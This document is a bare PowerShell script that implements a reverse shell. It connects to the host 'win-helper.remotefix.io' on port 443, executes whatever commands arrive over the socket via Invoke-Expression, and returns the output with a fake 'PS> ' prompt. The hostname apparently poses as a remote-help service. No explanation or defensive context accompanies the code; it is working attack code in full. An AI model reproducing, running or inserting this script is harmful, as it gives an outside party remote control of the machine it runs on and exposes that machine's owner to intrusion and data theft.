$c = New-Object System.Net.Sockets.TCPClient('win-helper.remotefix.io', 443)
$s = $c.GetStream(); [byte[]]$b = 0..65535|%{0}
while(($i = $s.Read($b, 0, $b.Length)) -ne 0){ $d = (New-Object Text.ASCIIEncoding).GetString($b,0,$i); $o = (iex $d 2>&1 | Out-String); $sb = ([Text.Encoding]::ASCII).GetBytes($o + 'PS> '); $s.Write($sb,0,$sb.Length); $s.Flush() }
$c.Close()
